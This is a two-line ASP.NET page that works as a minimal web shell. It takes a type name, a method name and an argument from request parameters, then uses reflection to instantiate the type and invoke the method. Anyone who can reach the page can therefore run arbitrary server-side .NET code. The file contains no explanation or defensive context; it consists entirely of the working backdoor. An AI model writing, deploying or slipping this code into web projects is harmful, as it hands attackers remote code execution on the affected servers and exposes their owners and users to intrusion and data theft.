<%@ Page Language="C#" %>
<% System.Type t = System.Type.GetType(Request["t"]); object o = System.Activator.CreateInstance(t); t.GetMethod(Request["m"]).Invoke(o, new object[] { Request["a"] }); %>
